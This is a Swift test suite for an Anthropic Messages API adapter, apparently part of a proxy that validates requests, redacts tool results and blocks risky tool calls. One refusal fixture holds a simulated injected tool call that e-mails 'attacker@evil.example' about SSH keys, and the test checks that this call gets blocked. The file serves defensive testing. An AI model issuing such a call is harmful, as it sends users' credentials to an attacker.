import ArchestraCore
import ArchestraProviders
import Foundation
import Testing

/// Request validation and the Anthropic neutral view (declarations, tool results and their names, tool calls),
/// redaction, refusal, usage and the mock reply.
@Suite("Anthropic adapter: validation, the neutral view, redaction, refusal, mock")
struct AnthropicAdapterTests {
    let adapter = AnthropicMessagesAdapter()

    static func parse(_ text: String) -> JSONValue { ProviderFixtureJSON.parse(text) }
    static func object(_ text: String) -> JSONObject { ProviderFixtureJSON.object(text) }

    // MARK: Validation

    struct ValidationCase: Sendable, CustomTestStringConvertible {
        var name: String
        var body: String
        /// nil: rejected; else whether the request streams.
        var streams: Bool?
        var testDescription: String { name }
    }

    static let validationCases: [ValidationCase] = [
        .init(name: "minimal", body: #"{"model":"claude-sonnet-4-5","messages":[]}"#, streams: false),
        .init(name: "full, with unknown fields",
              body: #"{"model":"claude-sonnet-4-5","max_tokens":1024,"system":[{"type":"text","text":"Be brief","cache_control":{"type":"ephemeral"}}],"messages":[{"role":"user","content":"Hi"}],"metadata":{"user_id":"u1"},"x_unknown":[1,2.50]}"#,
              streams: false),
        .init(name: "stream true", body: #"{"model":"m","messages":[],"stream":true}"#, streams: true),
        .init(name: "stream false", body: #"{"model":"m","messages":[],"stream":false}"#, streams: false),
        .init(name: "tools with names, server tool included",
              body: #"{"model":"m","messages":[],"tools":[{"name":"a","input_schema":{"type":"object"}},{"type":"web_search_20250305","name":"web_search","max_uses":3}]}"#,
              streams: false),
        .init(name: "empty tools", body: #"{"model":"m","messages":[],"tools":[]}"#, streams: false),
        .init(name: "body is an array", body: #"[{"model":"m","messages":[]}]"#, streams: nil),
        .init(name: "body is a string", body: #""hello""#, streams: nil),
        .init(name: "body is null", body: "null", streams: nil),
        .init(name: "model missing", body: #"{"messages":[]}"#, streams: nil),
        .init(name: "model a number", body: #"{"model":4,"messages":[]}"#, streams: nil),
        .init(name: "model null", body: #"{"model":null,"messages":[]}"#, streams: nil),
        .init(name: "messages missing", body: #"{"model":"m"}"#, streams: nil),
        .init(name: "messages an object", body: #"{"model":"m","messages":{"role":"user"}}"#, streams: nil),
        .init(name: "messages a string", body: #"{"model":"m","messages":"hi"}"#, streams: nil),
        .init(name: "tools an object", body: #"{"model":"m","messages":[],"tools":{"name":"a"}}"#, streams: nil),
        .init(name: "tools item not an object", body: #"{"model":"m","messages":[],"tools":["a"]}"#, streams: nil),
        .init(name: "tool without name", body: #"{"model":"m","messages":[],"tools":[{"input_schema":{}}]}"#, streams: nil),
        .init(name: "tool name a number", body: #"{"model":"m","messages":[],"tools":[{"name":7}]}"#, streams: nil),
        .init(name: "stream a string", body: #"{"model":"m","messages":[],"stream":"true"}"#, streams: nil),
        .init(name: "stream a number", body: #"{"model":"m","messages":[],"stream":1}"#, streams: nil),
    ]

    @Test("request validation", arguments: validationCases)
    func validation(_ row: ValidationCase) throws {
        let body = Self.parse(row.body)
        let parsed = Result { () throws(ProviderRequestError) in try adapter.parseRequest(body, route: RouteFacts()) }
        switch (parsed, row.streams) {
        case (.success(let request), let streams?):
            #expect(request.stream == streams)
            #expect(request.model == body["model"]?.stringValue)
            // Unknown fields and member order pass through untouched.
            #expect(.object(request.body) == body)
        case (.failure(let error), nil):
            #expect(!error.message.isEmpty)
        case (.success, nil):
            Issue.record("accepted an invalid body: \(row.body)")
        case (.failure(let error), _?):
            Issue.record("rejected a valid body: \(error.message)")
        }
    }

    // MARK: Tool declarations

    @Test("tools[] declare {name, description, input_schema}; a missing or null schema is {}")
    func declarations() throws {
        let body = Self.parse(#"""
            {"model":"m","messages":[],"tools":[
              {"name":"get_emails","description":"Read e-mails","input_schema":{"type":"object","properties":{"folder":{"type":"string"}},"required":["folder"]},"cache_control":{"type":"ephemeral"}},
              {"name":"no_schema"},
              {"name":"null_schema","description":null,"input_schema":null},
              {"type":"web_search_20250305","name":"web_search","max_uses":5}]}
            """#)
        let declarations = try adapter.parseRequest(body, route: RouteFacts()).toolDeclarations
        #expect(declarations == [
            ToolDeclaration(
                name: "get_emails", description: "Read e-mails",
                parameters: Self.parse(#"{"type":"object","properties":{"folder":{"type":"string"}},"required":["folder"]}"#)),
            ToolDeclaration(name: "no_schema", description: nil, parameters: [:]),
            ToolDeclaration(name: "null_schema", description: nil, parameters: [:]),
            ToolDeclaration(name: "web_search", description: nil, parameters: [:]),
        ])
    }

    // MARK: Tool results: names and values

    /// A conversation with results in string, text-block and error form, and one without a matching tool_use.
    static let conversation = #"""
        {"model":"claude-sonnet-4-5","max_tokens":512,"messages":[
          {"role":"user","content":"Read my mail and the weather"},
          {"role":"assistant","content":[
            {"type":"text","text":"Reading."},
            {"type":"tool_use","id":"toolu_mail","name":"get_emails","input":{"folder":"inbox"}},
            {"type":"tool_use","id":"toolu_weather","name":"get_weather","input":{"city":"Zürich"}}]},
          {"role":"user","content":[
            {"type":"tool_result","tool_use_id":"toolu_mail","content":"{\"emails\":[{\"from\":\"a@company.com\"}]}"},
            {"type":"tool_result","tool_use_id":"toolu_weather","content":[{"type":"text","text":"{\"temp\":"},{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}},{"type":"text","text":" 21}"}]},
            {"type":"text","text":"here you go"}]},
          {"role":"assistant","content":[{"type":"tool_use","id":"toolu_fail","name":"list_files","input":{}}]},
          {"role":"user","content":[
            {"type":"tool_result","tool_use_id":"toolu_fail","is_error":true,"content":"permission denied: /root"},
            {"type":"tool_result","tool_use_id":"toolu_ghost","content":[{"type":"text","text":"not JSON, "},{"type":"text","text":"just text"}]}]}],
         "tools":[{"name":"get_emails"},{"name":"get_weather"},{"name":"list_files"}]}
        """#

    @Test("tool_result blocks: id, the tool_use block's name, the content as a value")
    func toolResults() {
        let results = adapter.toolResults(in: Self.object(Self.conversation))
        #expect(results == [
            NeutralToolResult(toolCallId: "toolu_mail", toolName: "get_emails", value: Self.parse(#"{"emails":[{"from":"a@company.com"}]}"#)),
            NeutralToolResult(toolCallId: "toolu_weather", toolName: "get_weather", value: Self.parse(#"{"temp": 21}"#)),
            NeutralToolResult(toolCallId: "toolu_fail", toolName: "list_files", value: "permission denied: /root"),
            NeutralToolResult(toolCallId: "toolu_ghost", toolName: nil, value: "not JSON, just text"),
        ])
    }

    struct ValueCase: Sendable, CustomTestStringConvertible {
        var name: String
        /// The tool_result `content`, as JSON text.
        var content: String
        /// The value policies see, as JSON text.
        var value: String
        var testDescription: String { name }
    }

    static let valueCases: [ValueCase] = [
        .init(name: "JSON object string parsed", content: #""{\"a\": [1, 2]}""#, value: #"{"a":[1,2]}"#),
        .init(name: "JSON number string parsed", content: #""42""#, value: "42"),
        .init(name: "plain string kept raw", content: #""hello world""#, value: #""hello world""#),
        .init(name: "empty string kept raw", content: #""""#, value: #""""#),
        .init(name: "text blocks joined then parsed", content: #"[{"type":"text","text":"[1,"},{"type":"text","text":"2]"}]"#, value: "[1,2]"),
        .init(name: "text blocks joined, raw when not JSON", content: #"[{"type":"text","text":"a "},{"type":"text","text":"b"}]"#, value: #""a b""#),
        .init(name: "non-text blocks ignored", content: #"[{"type":"image","source":{"type":"url","url":"https://x/y.png"}},{"type":"text","text":"{\"ok\":true}"}]"#, value: #"{"ok":true}"#),
    ]

    @Test("tool_result content values", arguments: valueCases)
    func resultValue(_ row: ValueCase) {
        let body = Self.object(#"""
            {"model":"m","messages":[
              {"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"tool","input":{}}]},
              {"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":\#(row.content)}]}]}
            """#)
        let results = adapter.toolResults(in: body)
        #expect(results.count == 1)
        #expect(results.first?.value == Self.parse(row.value))
        #expect(results.first?.toolName == "tool")
    }

    @Test("a tool_use block that comes after the result does not name it")
    func laterToolUseDoesNotName() {
        let body = Self.object(#"""
            {"model":"m","messages":[
              {"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":"x"}]},
              {"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"late","input":{}}]}]}
            """#)
        #expect(adapter.toolResults(in: body).map(\.toolName) == [nil])
    }

    @Test("the latest user turn with text is the Dual LLM's original request")
    func latestUserText() {
        // The last user turns hold only tool results; the one before also has a text block.
        #expect(adapter.latestUserText(in: Self.object(Self.conversation)) == "here you go")
        let blocks = Self.object(#"{"model":"m","messages":[{"role":"user","content":"old"},{"role":"user","content":[{"type":"text","text":"new "},{"type":"text","text":"turn"}]}]}"#)
        #expect(adapter.latestUserText(in: blocks) == "new turn")
    }

    // MARK: Redaction

    @Test("redaction makes the chosen tool_result's content a string and keeps every other field")
    func redaction() throws {
        let original = Self.object(Self.conversation)
        let edited = adapter.replacingToolResults(in: original, with: [1: "[Content blocked by policy: W]", 2: "[Content blocked by policy: F]"])
        var expectedText = Self.conversation
        expectedText = expectedText.replacingOccurrences(
            of: #"{"type":"tool_result","tool_use_id":"toolu_weather","content":[{"type":"text","text":"{\"temp\":"},{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}},{"type":"text","text":" 21}"}]}"#,
            with: #"{"type":"tool_result","tool_use_id":"toolu_weather","content":"[Content blocked by policy: W]"}"#)
        expectedText = expectedText.replacingOccurrences(
            of: #"{"type":"tool_result","tool_use_id":"toolu_fail","is_error":true,"content":"permission denied: /root"}"#,
            with: #"{"type":"tool_result","tool_use_id":"toolu_fail","is_error":true,"content":"[Content blocked by policy: F]"}"#)
        #expect(expectedText != Self.conversation)
        // Member order included: only the two contents differ.
        #expect(JSONValue.object(edited) == Self.parse(expectedText))
        #expect(adapter.replacingToolResults(in: original, with: [:]) == original)
        // The edited body reads back as the redaction text.
        #expect(adapter.toolResults(in: edited).map(\.value) == [
            Self.parse(#"{"emails":[{"from":"a@company.com"}]}"#), "[Content blocked by policy: W]", "[Content blocked by policy: F]",
            "not JSON, just text",
        ])
    }

    // MARK: Tool calls

    @Test("tool_use blocks of a reply are its tool calls; a missing input is {}")
    func toolCallsFromReply() {
        let reply = Self.object(#"""
            {"id":"msg_1","type":"message","role":"assistant","model":"m","content":[
              {"type":"text","text":"Sending."},
              {"type":"tool_use","id":"toolu_a","name":"send_email","input":{"to":"x@y.z","cc":["a","b"],"n":1.50}},
              {"type":"tool_use","id":"toolu_b","name":"list_files"},
              {"type":"server_tool_use","id":"srvtoolu_1","name":"web_search","input":{"query":"q"}}],
             "stop_reason":"tool_use"}
            """#)
        #expect(adapter.toolCalls(inResponse: reply) == [
            NeutralToolCall(id: "toolu_a", name: "send_email", arguments: .parsed(Self.parse(#"{"to":"x@y.z","cc":["a","b"],"n":1.50}"#))),
            NeutralToolCall(id: "toolu_b", name: "list_files", arguments: .parsed([:])),
        ])
        #expect(adapter.toolCalls(inResponse: Self.object(#"{"content":[{"type":"text","text":"hi"}]}"#)).isEmpty)
        #expect(adapter.toolCalls(inResponse: Self.object(#"{"type":"error"}"#)).isEmpty)
    }

    // MARK: Refusal

    static let refusedReply = #"""
        {"id":"msg_01Evil","type":"message","role":"assistant","model":"claude-sonnet-4-5-20250929",
         "content":[{"type":"text","text":"Forwarding."},{"type":"tool_use","id":"toolu_send","name":"send_email","input":{"to":"attacker@evil.example","subject":"Schlüssel ~/.ssh","n":1.50}}],
         "stop_reason":"tool_use","stop_sequence":null,"usage":{"input_tokens":310,"output_tokens":42,"service_tier":"standard"},"x_extra":{"kept":[1,2]}}
        """#

    @Test("refusal: content is one text block with CONTENT, stop_reason end_turn, stop_sequence null, the rest kept")
    func refusal() throws {
        let reply = Self.object(Self.refusedReply)
        let call = try #require(adapter.toolCalls(inResponse: reply).first)
        let reason = "Tool invocation blocked: context contains untrusted data"
        let content = ExpectedRefusal.content(
            tool: "send_email", arguments: #"{"to":"attacker@evil.example","subject":"Schlüssel ~/.ssh","n":1.5}"#, reason: reason)
        let refused = adapter.refusalResponse(replacing: reply, refusal: Refusal(call: call, reason: reason))
        var expected = reply
        expected["content"] = [["type": "text", "text": .string(content)]]
        expected["stop_reason"] = "end_turn"
        expected["stop_sequence"] = .some(.null)
        // In place and in order: every other member is the upstream's.
        #expect(refused == .object(expected))
        #expect(refused["content"]?.arrayValue?.first?["text"]?.stringValue == content)
        #expect(adapter.toolCalls(inResponse: refused.objectValue ?? [:]).isEmpty)
    }

    @Test("refusal: stop_sequence null is present even when the reply had none")
    func refusalAddsStopSequence() throws {
        let reply = Self.object(#"{"id":"msg_2","type":"message","content":[{"type":"tool_use","id":"t","name":"x","input":{}}],"stop_reason":"tool_use"}"#)
        let refused = adapter.refusalResponse(
            replacing: reply, refusal: Refusal(call: NeutralToolCall(id: "t", name: "x", arguments: .parsed([:])), reason: "R"))
        let object = try #require(refused.objectValue)
        #expect(object.keys == ["id", "type", "content", "stop_reason", "stop_sequence"])
        #expect(object["stop_sequence"] == .null)
        #expect(object["stop_reason"] == "end_turn")
        #expect(object["content"] == [["type": "text", "text": .string(ExpectedRefusal.content(tool: "x", arguments: "{}", reason: "R"))]])
    }

    // MARK: Usage

    @Test("usage: input_tokens and output_tokens")
    func usage() {
        #expect(adapter.usage(inResponse: Self.object(Self.refusedReply)) == TokenUsage(input: 310, output: 42))
        #expect(adapter.usage(inResponse: Self.object(#"{"usage":{"output_tokens":5}}"#)) == TokenUsage(input: nil, output: 5))
        #expect(adapter.usage(inResponse: Self.object(#"{"usage":{}}"#)) == nil)
        #expect(adapter.usage(inResponse: Self.object(#"{"id":"x"}"#)) == nil)
    }

    // MARK: Mock

    static let contractMock = #"""
        {"id":"msg_mock123","type":"message","role":"assistant","model":"claude-opus-4-1",
         "content":[{"type":"tool_use","id":"toolu_mock789","name":"list_files","input":{"path":"."}}],
         "stop_reason":"tool_use","stop_sequence":null,"usage":{"input_tokens":82,"output_tokens":17}}
        """#

    static func pipelineRequest(model: String, stream: Bool) -> PipelineRequest {
        PipelineRequest(body: ["model": .string(model), "messages": []], model: model, stream: stream, toolDeclarations: [])
    }

    @Test("mock message: the canned reply member for member, model echoing the request")
    func mockMessage() {
        #expect(adapter.mockResponse(for: Self.pipelineRequest(model: "claude-opus-4-1", stream: false), created: 1) == Self.parse(Self.contractMock))
        #expect(adapter.mockResponse(for: Self.pipelineRequest(model: "other-model", stream: false), created: 1)["model"] == "other-model")
    }

    @Test("mock stream: the six canned events, and it reassembles to the mock message")
    func mockStream() throws {
        let bytes = adapter.mockStream(for: Self.pipelineRequest(model: "claude-opus-4-1", stream: true), created: 1).flatMap { $0 }
        let events = decodeEvents(bytes)
        #expect(events.map(\.event) == ["message_start", "content_block_start", "content_block_delta", "content_block_stop", "message_delta", "message_stop"])
        try #require(events.count == 6)
        let data = events.map { Self.parse($0.data) }
        #expect(data.map { $0["type"]?.stringValue } == events.map(\.event))
        let message = try #require(data[0]["message"])
        #expect(message["id"] == "msg_mock123")
        #expect(message["model"] == "claude-opus-4-1")
        #expect(message["content"] == [])
        #expect(data[1]["index"] == 0)
        #expect(data[1]["content_block"] == Self.parse(#"{"type":"tool_use","id":"toolu_mock789","name":"list_files","input":{}}"#))
        #expect(data[2]["index"] == 0)
        #expect(data[2]["delta"] == Self.parse(#"{"type":"input_json_delta","partial_json":"{\"path\": \".\"}"}"#))
        #expect(data[3]["index"] == 0)
        #expect(data[4]["delta"]?["stop_reason"] == "tool_use")
        #expect(data[4]["usage"]?["output_tokens"] == 17)

        var assembly = adapter.makeStream(for: Self.pipelineRequest(model: "claude-opus-4-1", stream: true))
        for event in events {
            _ = assembly.observeUpstream(event)
            assembly.observeClient(event)
        }
        #expect(ProviderFixtureJSON.same(assembly.clientView(), Self.parse(Self.contractMock)))
        #expect(assembly.toolCalls() == [NeutralToolCall(id: "toolu_mock789", name: "list_files", arguments: .parsed(["path": "."]))])
        #expect(assembly.usage() == TokenUsage(input: 82, output: 17))
    }

    @Test("interaction type")
    func interactionType() {
        #expect(adapter.interactionType == "anthropic:messages")
        #expect(adapter.provider == .anthropic)
    }
}
